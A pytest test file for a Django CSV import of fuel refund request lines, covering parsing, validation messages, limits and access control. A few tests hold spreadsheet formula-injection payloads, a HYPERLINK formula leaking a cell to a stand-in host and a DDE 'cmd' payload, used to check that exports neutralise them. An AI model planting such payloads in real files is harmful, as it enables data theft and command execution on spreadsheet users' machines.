"""« Importer des lignes de demande »: the CSV read as spreadsheets write it, each faulty row named, all or nothing."""

from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
import time_machine
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from refunds import workflows
from refunds.csv_import import MAX_FILE_SIZE, UNREADABLE, parse, safe_cell
from refunds.models import Product, Rate, RefundLine, RefundRequest
from refunds.workflows import import_lines
from tests.factories import FarmFactory, MembershipFactory, RefundLineFactory, RefundRequestFactory

pytestmark = pytest.mark.django_db

HEADER = "numero_facture;date_facture;fournisseur;produit;quantite"


def csv_bytes(*rows: str, header: str = HEADER, encoding: str = "utf-8", newline: str = "\r\n") -> bytes:
    return newline.join([header, *rows, ""]).encode(encoding)


def read(data: bytes, *, year=2023, existing=(), max_lines=500):
    return parse(data, year=year, existing_numbers=list(existing), max_lines=max_lines)


def messages_of(errors) -> list[str]:
    return [str(error) for error in errors]


# The parser: what spreadsheets write.


def test_a_semicolon_file_with_french_decimals_gives_its_lines():
    rows, errors = read(
        csv_bytes(
            "F-001;15/03/2023;Coopérative du Val;gnr;1 250,50",
            "F-002;2023-06-30;Gaz de l'Ouest;Gaz naturel combustible;12,5",
            "F-003;01/12/2023;Pétroles Martin;fioul-lourd;2500",
        )
    )

    assert errors == []
    assert [(row.invoice_number, row.invoice_date, row.supplier, row.product.code, row.quantity) for row in rows] == [
        ("F-001", date(2023, 3, 15), "Coopérative du Val", "gnr", Decimal("1250.50")),
        ("F-002", date(2023, 6, 30), "Gaz de l'Ouest", "gaz-naturel-combustible", Decimal("12.5")),
        ("F-003", date(2023, 12, 1), "Pétroles Martin", "fioul-lourd", Decimal("2500")),
    ]


def test_a_comma_file_reads_dot_decimals_and_quoted_comma_decimals():
    rows, errors = read(
        csv_bytes(
            'F-001,15/03/2023,"Coopérative du Val, Crest",gnr,1250.50',
            'F-002,16/03/2023,Coopérative du Val,GPL,"300,25"',
            header=HEADER.replace(";", ","),
        )
    )

    assert errors == []
    assert [(row.supplier, row.product.code, row.quantity) for row in rows] == [
        ("Coopérative du Val, Crest", "gnr", Decimal("1250.50")),
        ("Coopérative du Val", "gpl", Decimal("300.25")),
    ]


def test_a_comma_file_with_an_unquoted_french_decimal_is_told_to_use_a_dot():
    rows, errors = read(csv_bytes("F-001,15/03/2023,Coopérative du Val,gnr,1250,50", header=HEADER.replace(";", ",")))

    assert rows == []
    assert messages_of(errors) == [
        "Ligne 2 : la ligne a 6 valeurs pour 5 colonnes. Dans un fichier séparé par des virgules, écrivez les "
        "quantités avec un point (1250.50) ou entre guillemets."
    ]


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(csv_bytes("F-001;15/03/2023;Coopérative du Val;gnr;10"), id="utf-8"),
        pytest.param(b"\xef\xbb\xbf" + csv_bytes("F-001;15/03/2023;Coopérative du Val;gnr;10"), id="utf-8 with BOM"),
        pytest.param(csv_bytes("F-001;15/03/2023;Coopérative du Val;gnr;10", encoding="cp1252"), id="windows-1252"),
        pytest.param(csv_bytes("F-001;15/03/2023;Coopérative du Val;gnr;10", newline="\n"), id="unix line ends"),
    ],
)
def test_utf8_with_or_without_bom_and_windows_1252_keep_their_accents(data):
    rows, errors = read(data)

    assert errors == []
    assert [row.supplier for row in rows] == ["Coopérative du Val"]


def test_header_names_match_whatever_their_case_accents_and_order():
    rows, errors = read(
        csv_bytes(
            "gnr;10;F-001;Coopérative du Val;15/03/2023",
            header="Produit;Quantité;Numéro facture;FOURNISSEUR;Date_Facture;;",
        )
    )

    assert errors == []
    assert [(row.invoice_number, row.product.code, row.quantity) for row in rows] == [("F-001", "gnr", Decimal("10"))]


def test_blank_lines_and_rows_of_empty_cells_are_skipped_and_lines_keep_their_file_numbers():
    rows, errors = read(csv_bytes("F-001;15/03/2023;Coop;gnr;10", "", ";;;;", "F-002;15/03/2023;Coop;gnr;-3"))

    assert rows == []
    assert messages_of(errors) == ["Ligne 5, colonne quantite : « -3 » n'est pas une quantité positive."]


@pytest.mark.parametrize(
    "header, detail",
    [
        ("numero_facture;date_facture;fournisseur;produit", " ; colonnes manquantes : quantite"),
        (HEADER + ";montant", " ; colonnes inconnues : montant"),
        ("facture;date;fournisseur;produit;quantite", "colonnes manquantes : numero_facture, date_facture"),
        (HEADER + ";quantite", " ; colonnes en double : quantite"),
        ("F-001;15/03/2023;Coop;gnr;10", "colonnes manquantes"),
    ],
)
def test_a_wrong_header_gives_one_message_with_the_expected_header(header, detail):
    rows, errors = read(csv_bytes("F-001;15/03/2023;Coop;gnr;10", header=header))

    assert rows == []
    assert len(errors) == 1
    assert errors[0].line is None
    assert str(errors[0]).startswith(f"La ligne d'en-tête doit être {HEADER}")
    assert detail in str(errors[0])


def test_an_empty_file_is_refused():
    for data in [b"", b"  \r\n", b"\xef\xbb\xbf", b"\xef\xbb\xbf\r\n"]:
        rows, errors = read(data)
        assert rows == []
        assert messages_of(errors) == [
            f"Le fichier est vide : sa première ligne doit être la ligne d'en-tête {HEADER}."
        ]


def test_a_header_without_rows_is_refused():
    rows, errors = read(csv_bytes())

    assert rows == []
    assert messages_of(errors) == [f"Le fichier n'a aucune ligne de demande sous la ligne d'en-tête {HEADER}."]


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(bytes(range(256)) * 20, id="binary"),
        pytest.param(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00\x10" * 200, id="an image"),
        pytest.param("\ufeff" + HEADER + "\r\nF-001;15/03/2023;Coopérative;gnr;10\r\n", id="utf-16"),  # encoded below
        pytest.param(b"%PDF-1.7\n" + bytes(range(128, 256)) * 10, id="a pdf"),
    ],
)
def test_a_file_that_is_no_readable_csv_is_refused_with_a_clear_message(data):
    if isinstance(data, str):
        data = data.encode("utf-16")

    rows, errors = read(data)

    assert rows == []
    assert messages_of(errors) == [UNREADABLE]
    assert UNREADABLE.startswith("Le fichier n'est pas un CSV lisible")


def test_a_file_over_the_size_limit_is_refused_unread():
    rows, errors = read(b"x" * (MAX_FILE_SIZE + 1))

    assert rows == []
    assert messages_of(errors) == ["Le fichier dépasse 2 Mo : importez-le en plusieurs fichiers."]


def test_ten_thousand_rows_are_refused_naming_the_limit_without_checking_them(django_assert_max_num_queries):
    data = csv_bytes(*[f"F-{n};15/03/2023;Coop;produit inconnu;-1" for n in range(10_000)])

    with django_assert_max_num_queries(0):  # stopped before a product or a rate is read
        rows, errors = read(data)

    assert rows == []
    assert messages_of(errors) == [
        "Le fichier compte plus de 500 lignes de demande : une demande en compte 500 au plus."
    ]


def test_the_limit_counts_the_lines_already_on_the_request():
    existing = [f"E-{n}" for n in range(490)]
    ten = [f"F-{n};15/03/2023;Coop;gnr;10" for n in range(10)]

    assert read(csv_bytes(*ten), existing=existing)[1] == []
    rows, errors = read(csv_bytes(*ten, "F-10;15/03/2023;Coop;gnr;10"), existing=existing)
    assert rows == []
    assert messages_of(errors) == [
        "La demande compte déjà 490 lignes et en compte 500 au plus : le fichier peut en ajouter 10, il en compte "
        "davantage."
    ]
    rows, errors = read(csv_bytes(*ten), existing=[f"E-{n}" for n in range(500)])
    assert messages_of(errors) == [
        "La demande compte déjà 500 lignes, le plus qu'elle puisse compter : aucune ne peut être ajoutée."
    ]


def test_every_faulty_row_is_named_by_its_line_and_column_and_nothing_is_kept():
    rows, errors = read(
        csv_bytes(
            "F-001;15/03/2023;Coopérative du Val;gnr;1000",  # right, but kept back with the others
            "F-002;15/03/2022;Coopérative du Val;gnr;10",
            "F-003;31/02/2023;Coopérative du Val;gnr;10",
            "F-004;15/03/2023;Coopérative du Val;fioul;10",
            ";15/03/2023;;gnr;",
            "F-001;15/03/2023;Coopérative du Val;gnr;10",
            "f-002;15/03/2023;Coopérative du Val;gnr;10,123",
            "F-008;15/03/2023;Coopérative du Val;gnr;123456789",
            "F-009;15/03/2023;Coopérative du Val;gnr;0",
            "F-010;15/03/2023;Coopérative du Val;gnr;dix litres",
            f"{'N' * 41};15/03/2023;{'S' * 121};gnr;10",
            "F-012;;Coopérative du Val;;10",
        )
    )

    assert rows == []
    assert messages_of(errors) == [
        "Ligne 3, colonne date_facture : la date « 15/03/2022 » n'est pas dans l'année de la demande (2023).",
        "Ligne 4, colonne date_facture : « 31/02/2023 » n'est pas une date qui existe.",
        "Ligne 5, colonne produit : « fioul » n'est pas un produit connu : indiquez l'un de ces codes : gnr, "
        "fioul-lourd, gpl, gaz-naturel-combustible, gaz-naturel-carburant.",
        "Ligne 6, colonne numero_facture : la valeur est obligatoire.",
        "Ligne 6, colonne fournisseur : la valeur est obligatoire.",
        "Ligne 6, colonne quantite : la quantité est obligatoire.",
        "Ligne 7, colonne numero_facture : la facture « F-001 » figure déjà ligne 2 du fichier.",
        "Ligne 8, colonne numero_facture : la facture « f-002 » figure déjà ligne 3 du fichier.",
        "Ligne 8, colonne quantite : « 10,123 » a plus de 2 chiffres après la virgule.",
        "Ligne 9, colonne quantite : « 123456789 » a plus de 8 chiffres avant la virgule.",
        "Ligne 10, colonne quantite : « 0 » n'est pas une quantité positive.",
        "Ligne 11, colonne quantite : « dix litres » n'est pas une quantité : écrivez un nombre, par exemple 1250,50.",
        "Ligne 12, colonne numero_facture : 40 caractères au plus (la valeur en compte 41).",
        "Ligne 12, colonne fournisseur : 120 caractères au plus (la valeur en compte 121).",
        "Ligne 13, colonne date_facture : la date de la facture est obligatoire.",
        "Ligne 13, colonne produit : le produit est obligatoire : indiquez l'un de ces codes : gnr, fioul-lourd, "
        "gpl, gaz-naturel-combustible, gaz-naturel-carburant.",
    ]


def test_an_invoice_number_already_on_the_request_is_refused_whatever_its_case():
    rows, errors = read(csv_bytes("fa-12;15/03/2023;Coop;gnr;10"), existing=["FA-12"])

    assert rows == []
    assert messages_of(errors) == [
        "Ligne 2, colonne numero_facture : la facture « fa-12 » figure déjà dans la demande."
    ]


def test_a_product_without_a_rate_for_the_year_is_refused():
    rows, errors = read(csv_bytes("F-1;15/03/2019;Coop;gaz-naturel-carburant;10"), year=2019)

    assert rows == []
    assert messages_of(errors) == [
        "Ligne 2, colonne produit : les taux 2019 ne sont pas encore publiés pour le produit Gaz naturel carburant."
    ]


@pytest.mark.parametrize(
    "typed, code",
    [
        ("GNR", "gnr"),
        ("Gazole non routier", "gnr"),
        ("fioul lourd", "fioul-lourd"),
        ("FIOUL-LOURD", "fioul-lourd"),
        ("gpl", "gpl"),
        ("Gaz naturel carburant", "gaz-naturel-carburant"),
        ("gaz naturel combustible", "gaz-naturel-combustible"),
        ("Gàz Natûrel Combustible", "gaz-naturel-combustible"),
    ],
)
def test_a_product_is_its_code_or_its_name_whatever_the_case_and_accents(typed, code):
    rows, errors = read(csv_bytes(f"F-1;15/03/2023;Coop;{typed};10"))

    assert errors == []
    assert rows[0].product.code == code


@pytest.mark.parametrize(
    "typed, quantity",
    [
        ("10", "10"),
        ("10,5", "10.5"),
        ("10.25", "10.25"),
        ("1 234 567,89", "1234567.89"),
        ("1\u00a0234,5", "1234.5"),
        ("1\u202f234", "1234"),
        ("99999999,99", "99999999.99"),
        ("0,01", "0.01"),
        (" 12 ", "12"),
    ],
)
def test_quantities_take_a_comma_or_a_dot_and_spaces_between_thousands(typed, quantity):
    rows, errors = read(csv_bytes(f'F-1;15/03/2023;Coop;gnr;"{typed}"'))

    assert errors == []
    assert rows[0].quantity == Decimal(quantity)


@pytest.mark.parametrize("typed", ["1.234,5", "1,234.5", "12 34", "1e5", "+5", "10 L", "--3"])
def test_ambiguous_quantities_are_refused(typed):
    rows, errors = read(csv_bytes(f'F-1;15/03/2023;Coop;gnr;"{typed}"'))

    assert rows == []
    assert [error.column for error in errors] == ["quantite"]


def test_formula_looking_cells_are_kept_as_typed():
    formula = '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez")'
    rows, errors = read(
        csv_bytes(
            f'@SUM(A1:A2);15/03/2023;"{formula.replace('"', '""')}";gnr;10',
            "+33 6 12;15/03/2023;-Coop;gnr;10",
            '"\t=1+1";15/03/2023;"\r=cmd|\' /C calc\'!A0";gnr;10',
        )
    )

    assert errors == []
    assert [(row.invoice_number, row.supplier) for row in rows] == [
        ("@SUM(A1:A2)", formula),
        ("+33 6 12", "-Coop"),
        ("\t=1+1", "\r=cmd|' /C calc'!A0"),
    ]


@pytest.mark.parametrize("typed", ["31/02/2023", "29/02/2023", "31/4/2023", "15/13/2023", "00/03/2023", "2023-02-30"])
def test_a_date_written_right_that_does_not_exist_is_told_so(typed):
    rows, errors = read(csv_bytes(f"F-1;{typed};Coop;gnr;10"))

    assert rows == []
    assert messages_of(errors) == [f"Ligne 2, colonne date_facture : « {typed} » n'est pas une date qui existe."]


@pytest.mark.parametrize("typed", ["15-03-2023", "15/03/23", "15.03.2023", "mars 2023", "2023/03/15", "1/3/2023 10:00"])
def test_a_date_written_otherwise_is_told_how_to_write_it(typed):
    rows, errors = read(csv_bytes(f"F-1;{typed};Coop;gnr;10"))

    assert rows == []
    assert messages_of(errors) == [
        f"Ligne 2, colonne date_facture : « {typed} » n'est pas une date : écrivez-la JJ/MM/AAAA, par exemple "
        "15/03/2023."
    ]


def test_an_unclosed_quote_is_named_by_its_line():
    rows, errors = read(csv_bytes('F-1;15/03/2023;"Coop;gnr;10', *["F-2;15/03/2023;Coop;gnr;10"] * 20_000))

    assert rows == []
    assert messages_of(errors) == [
        "Ligne 2 : un guillemet ouvert n'est jamais refermé : vérifiez les guillemets de cette ligne."
    ]


# Exports: cells made inert.


@pytest.mark.parametrize(
    "value, safe",
    [
        ('=HYPERLINK("http://x";"y")', '\'=HYPERLINK("http://x";"y")'),
        ("+33612345678", "'+33612345678"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("EARL des Peupliers", "EARL des Peupliers"),
        ("035000123", "035000123"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_safe_cell_quotes_what_a_spreadsheet_would_run(value, safe):
    assert safe_cell(value) == safe


# The page.


@pytest.fixture
def import_url(draft):
    return reverse("refunds:lines_import", args=[draft.pk])


def shown(response) -> list[str]:
    """The messages the next page shows."""
    return [str(message) for message in get_messages(response.wsgi_request)]


def upload(data: bytes, name: str = "lignes.csv"):
    return {"file": SimpleUploadedFile(name, data, content_type="text/csv")}


def test_a_member_sees_the_import_page_with_the_columns_and_the_template_link(sign_in, accountant, import_url):
    response = sign_in(accountant).get(import_url)

    assert response.status_code == 200
    page = response.content.decode()
    assert "<h1>Importer des lignes de demande</h1>" in page
    for column in ["numero_facture", "date_facture", "fournisseur", "produit", "quantite"]:
        assert f"<code>{column}</code>" in page
    assert reverse("refunds:import_template") in page
    assert 'type="file"' in page and 'class="fr-upload"' in page


def test_a_right_file_imports_every_line_and_leads_back_to_the_request(sign_in, accountant, draft, import_url):
    RefundLineFactory(request=draft, invoice_number="F-000")
    data = csv_bytes("F-001;15/03/2023;Coopérative du Val;gnr;1000", "F-002;16/03/2023;Coopérative du Val;gpl;250,5")

    response = sign_in(accountant).post(import_url, upload(data))

    assert response.status_code == 302
    assert response["Location"] == draft.get_absolute_url()
    assert shown(response) == ["2 lignes importées : joignez maintenant la facture de chaque ligne."]
    lines = list(draft.lines.order_by("position"))
    assert [(line.invoice_number, line.quantity, line.amount, line.has_invoice) for line in lines] == [
        ("F-000", Decimal("1000.00"), Decimal("149.60"), True),
        ("F-001", Decimal("1000.00"), Decimal("149.60"), False),
        ("F-002", Decimal("250.50"), Decimal("14.33"), False),
    ]
    draft.refresh_from_db()
    assert draft.total_asked == Decimal("313.53")


def test_a_file_with_faulty_rows_imports_nothing_and_lists_each_row(sign_in, accountant, draft, import_url):
    data = csv_bytes("F-001;15/03/2023;Coop;gnr;1000", "F-002;15/03/2023;Coop;gnr;-3", "F-003;15/03/2022;Coop;gnr;1")

    response = sign_in(accountant).post(import_url, upload(data))

    assert response.status_code == 200
    page = response.content.decode()
    assert page.count("<title>Erreur – Importer des lignes de demande") == 1
    assert "Le formulaire contient 1 erreur" in page
    assert "Le fichier contient 2 erreurs, listées sous le formulaire" in page
    assert "Ligne 3, colonne quantite : « -3 » n&#x27;est pas une quantité positive." in page
    assert "Ligne 4, colonne date_facture : la date « 15/03/2022 » n&#x27;est pas dans l&#x27;année" in page
    assert not draft.lines.exists()


@pytest.mark.parametrize(
    "data, message",
    [
        (csv_bytes("F-1;15/03/2023;Coop;gnr;1", header="facture;date"), "La ligne d&#x27;en-tête doit être"),
        (bytes(range(256)) * 4, "Le fichier n&#x27;est pas un CSV lisible"),
        (b"", "Le fichier est vide"),
    ],
)
def test_a_wrong_file_is_told_next_to_the_field(sign_in, accountant, draft, import_url, data, message):
    response = sign_in(accountant).post(import_url, upload(data))

    assert response.status_code == 200
    assert message in response.content.decode()
    assert "Lignes à corriger" not in response.content.decode()
    assert not draft.lines.exists()


def test_posting_no_file_asks_for_one(sign_in, accountant, import_url):
    response = sign_in(accountant).post(import_url, {})

    assert "Choisissez le fichier CSV à importer." in response.content.decode()


def test_the_page_limit_comes_from_the_settings(sign_in, accountant, draft, import_url, settings):
    settings.REFUND_IMPORT_MAX_LINES = 2
    RefundLineFactory(request=draft)

    response = sign_in(accountant).post(
        import_url, upload(csv_bytes("F-1;15/03/2023;Coop;gnr;1", "F-2;15/03/2023;Coop;gnr;1"))
    )

    assert "La demande compte déjà 1 lignes et en compte 2 au plus" in response.content.decode()
    assert draft.lines.count() == 1


def test_a_sent_request_cannot_be_imported_into(sign_in, accountant, draft, import_url):
    RefundRequest.objects.filter(pk=draft.pk).update(status=RefundRequest.Status.FILED, number="TIC-2023-000001")

    client = sign_in(accountant)

    for response in [client.get(import_url), client.post(import_url, upload(csv_bytes("F-1;15/03/2023;Coop;gnr;1")))]:
        assert response.status_code == 302
        assert response["Location"] == draft.get_absolute_url()
        assert "Cette demande a été envoyée : ses lignes ne peuvent plus être modifiées." in shown(response)
    assert not draft.lines.exists()


def test_another_farm_s_member_gets_404_and_nothing_changes(sign_in, draft, import_url):
    other = MembershipFactory(structure=FarmFactory()).user
    client = sign_in(other)

    assert client.get(import_url).status_code == 404
    assert client.post(import_url, upload(csv_bytes("F-1;15/03/2023;Coop;gnr;1"))).status_code == 404
    assert not RefundLine.objects.exists()


def test_an_anonymous_visitor_is_sent_to_sign_in(client, import_url):
    response = client.get(import_url)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("accounts:login"))


def test_a_forged_id_is_a_404(sign_in, accountant):
    client = sign_in(accountant)
    other = RefundRequestFactory()

    assert client.get(reverse("refunds:lines_import", args=[other.pk])).status_code == 404
    assert client.get(reverse("refunds:lines_import", args=[2**63])).status_code == 404


def test_the_template_is_a_semicolon_utf8_csv_with_bom_that_the_import_reads(sign_in, accountant):
    client = sign_in(accountant)

    # Asked for no year, the example row is of the latest year open on that day: 2023 (2021 and 2022 are open too).
    with time_machine.travel(datetime(2024, 2, 1, 9, tzinfo=UTC)):
        response = client.get(reverse("refunds:import_template"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="modele-lignes-remboursement.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf" + HEADER.encode() + b"\r\n")
    assert "Coopérative du Val" in response.content.decode("utf-8-sig")
    rows, errors = read(response.content, year=2023)
    assert errors == [] and len(rows) == 1


def test_the_template_linked_from_a_2023_request_imports_into_it_as_it_is(sign_in, accountant, draft, import_url):
    client = sign_in(accountant)
    template_url = f"{reverse('refunds:import_template')}?annee=2023"
    assert f'href="{template_url}"' in client.get(import_url).content.decode()

    with time_machine.travel(datetime(2026, 2, 1, 9, tzinfo=UTC)):  # last year is 2025: the example is still 2023's
        template = client.get(template_url).content
    response = client.post(import_url, upload(template, name="modele-lignes-remboursement.csv"))

    assert template.decode("utf-8-sig").splitlines()[1] == "FA-2023-0042;15/03/2023;Coopérative du Val;gnr;1250,50"
    assert response.status_code == 302
    assert shown(response) == ["1 ligne importée : joignez maintenant la facture de chaque ligne."]
    assert [(line.invoice_number, line.invoice_date) for line in draft.lines.all()] == [
        ("FA-2023-0042", date(2023, 3, 15))
    ]


@pytest.mark.parametrize("annee", ["2019", "2000", "2100"])
def test_the_template_s_example_row_is_of_the_year_asked(sign_in, accountant, annee):
    response = sign_in(accountant).get(reverse("refunds:import_template"), {"annee": annee})

    assert response.content.decode("utf-8-sig").splitlines()[1].startswith(f"FA-{annee}-0042;15/03/{annee};")


@pytest.mark.parametrize(
    "annee", ["", "abc", "1999", "2101", "99999", "0", "-2023", "+2023", " 2023", "2023.0", "2_023", "٢٠٢٣"]
)
@pytest.mark.parametrize(
    "today, year",
    [
        (datetime(2025, 6, 2, 9, tzinfo=UTC), 2023),  # 2022 and 2023 open: the latest
        (datetime(2031, 6, 2, 9, tzinfo=UTC), 2030),  # none open: last year
    ],
)
def test_a_year_out_of_range_or_not_a_year_gives_the_latest_open_one_else_last_year(
    sign_in, accountant, annee, today, year
):
    with time_machine.travel(today):
        response = sign_in(accountant).get(reverse("refunds:import_template"), {"annee": annee})

    assert response.status_code == 200
    assert response.content.decode("utf-8-sig").splitlines()[1].startswith(f"FA-{year}-0042;15/03/{year};")


def test_the_template_needs_a_signed_in_user(client):
    assert client.get(reverse("refunds:import_template")).status_code == 302


def test_five_hundred_lines_import_within_a_bounded_number_of_queries(
    sign_in, accountant, draft, import_url, django_assert_max_num_queries
):
    data = csv_bytes(*[f"F-{n:03d};15/03/2023;Coopérative du Val;gnr;1 000,50" for n in range(500)])
    client = sign_in(accountant)

    with django_assert_max_num_queries(30):
        response = client.post(import_url, upload(data))

    assert response.status_code == 302
    assert draft.lines.count() == 500
    draft.refresh_from_db()
    assert draft.total_asked == Decimal("149.67") * 500


def test_an_invoice_added_meanwhile_in_another_tab_is_told_and_nothing_is_imported(
    sign_in, accountant, draft, import_url, monkeypatch
):
    def checked_then_taken(request_pk, rows, *, by):
        RefundLineFactory(request=draft, invoice_number="F-2")  # the other tab, between the check and the import
        return import_lines(request_pk, rows, by=by)

    monkeypatch.setattr(workflows, "import_lines", checked_then_taken)

    response = sign_in(accountant).post(
        import_url, upload(csv_bytes("F-1;15/03/2023;Coop;gnr;1", "F-2;15/03/2023;Coop;gnr;1"))
    )

    assert response.status_code == 200
    assert "La demande a changé pendant l&#x27;import : importez de nouveau le fichier." in response.content.decode()
    assert list(draft.lines.values_list("invoice_number", flat=True)) == ["F-2"]


GNR = Product(pk=1, code="gnr", name="Gazole non routier", invoice_unit="litres", invoice_units_per_rate_unit=100)
RATES = {1: Rate(year=2023, product=GNR, amount=Decimal("14.96"))}
CELL = st.text(st.characters(codec="utf-8"), max_size=12)


@given(
    st.one_of(
        st.binary(max_size=3000),
        st.lists(st.lists(CELL, min_size=0, max_size=7), max_size=20).map(
            lambda rows: csv_bytes(*[";".join(cells) for cells in rows])
        ),
    )
)
@hypothesis_settings(max_examples=300, deadline=None)
def test_no_file_makes_the_parser_fail(data):
    rows, errors = parse(data, year=2023, existing_numbers=[], max_lines=10, products=[GNR], rates=RATES)

    assert bool(rows) != bool(errors)
    assert all(str(error) for error in errors)
